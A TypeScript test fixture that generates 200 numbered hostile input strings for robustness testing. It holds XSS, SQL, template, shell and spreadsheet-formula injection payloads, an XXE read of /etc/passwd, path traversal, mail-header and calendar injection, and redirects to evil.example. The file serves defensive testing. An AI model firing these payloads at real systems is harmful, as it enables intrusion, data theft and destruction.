/**
 * Two hundred texts that somebody types to break what reads them: pages, spreadsheets, calendars, printers, databases,
 * mail systems. Each carries its number, so that it is known again wherever it comes out.
 */

/** `#` stands for the number of the string. A page on which one is run has `window.broken` set. */
const patterns = [
  `<script>window.broken='#'</script>`,
  `"><script>window.broken='#'</script>`,
  `'><img src=x onerror="window.broken='#'">`,
  `<img/src/onerror=window.broken='#'>`,
  `<svg onload="window.broken='#'">`,
  `<svg><script>window.broken='#'</script>`,
  `" autofocus onfocus="window.broken='#'`,
  `' onmouseover='window.broken=#`,
  `</title><script>window.broken='#'</script>`,
  `</textarea><script>window.broken='#'</script>`,
  `</script><script>window.broken='#'</script>`,
  `<!--<script>window.broken='#'</script>-->`,
  `<iframe srcdoc="<script>top.broken='#'</script>">`,
  `<a href="javascript:window.broken='#'">#</a>`,
  `javascript:window.broken='#'`,
  `<base href="//evil.example/#">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/#">`,
  `<form action="//evil.example/#"><button>`,
  `<style>*{display:none}</style>#`,
  `<math><mtext><script>window.broken='#'</script>`,
  `&lt;script&gt;window.broken='#'&lt;/script&gt;`,
  `&#x3c;script&#x3e;window.broken='#'&#x3c;/script&#x3e;`,
  `{{ 7 * '#' }}`,
  `{% include '/etc/passwd' %}#`,
  `\${process.exit(#)}`,
  `<%= process.exit('#') %>`,
  `{count, plural, one {#} other {#}}`,
  `{#, date, ::yyyy}`,
  `'; DROP TABLE claims; --#`,
  `" OR "#"="#`,
  `1); DELETE FROM mails WHERE (1=1 /*#`,
  `%' OR '#' LIKE '%`,
  `=HYPERLINK("http://evil.example/#","click")`,
  `=cmd|' /C calc'!A#`,
  `+1+cmd|' /C calc'!A#`,
  `-2+3+cmd|' /C calc'!A#`,
  `@SUM(1+#)*cmd|' /C calc'!A0`,
  `a,"b","#`,
  `a;b;"#`,
  `BEGIN:VEVENT#`,
  `x\\nATTENDEE:mailto:evil#@evil.example`,
  `END:VCALENDAR#`,
  `Bcc: evil#@evil.example`,
  `"evil" <evil#@evil.example>,`,
  `=?utf-8?q?evil_#?=`,
  `^XZ^XA^FDevil#^FS`,
  `~JA#`,
  `_5EXZ#`,
  `<![CDATA[ evil # ]]>`,
  `]]><evil n="#"/>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;#`,
  `&e#;`,
  `../../../../etc/passwd#`,
  `..\\\\..\\\\windows\\\\win.ini#`,
  `C:\\\\#`,
  `$(touch /tmp/evil#)`,
  '`touch /tmp/evil#`',
  `| touch /tmp/evil#`,
  `%s%s%n%x#`,
  `%00#`,
  `\\u0000#`,
  `{"__proto__":{"broken":"#"}}`,
  `__proto__#`,
  `constructor#`,
  `null#`,
  `NaN#`,
  `1e309#`,
  `#'#"#\`#`,
] as const

/** Texts that no page of letters shows as it was typed: direction, invisible signs, halves, line ends, much of it. */
const strange = [
  'evil\r\nBcc: evil#@evil.example',
  'evil\nX-Evil: #',
  'tab\there #',
  '\u202Egnp.exe #',
  'zero\u200Bwidth #',
  'a\u0301\u0302\u0303\u0304 #',
  '\uFEFFmark #',
  'null\u0000byte #',
  'bell\u0007 #',
  'half\uD83D #',
  '👩‍👩‍👧‍👦 #',
  '\u2028line # \u2029',
] as const

const wanted = 200

/** The strings by their numbers; from the second round on each stands beside harmless words. */
export const hostileStrings: readonly string[] = Array.from({ length: wanted }, (_, no) => {
  const all = [...patterns, ...strange]
  const pattern = all[no % all.length] ?? ''
  const round = Math.floor(no / all.length)
  const beside = [pattern, `Firma ${pattern}`, `${pattern} & Søn`][round] ?? pattern
  return beside.replaceAll('#', String(1000 + no))
})
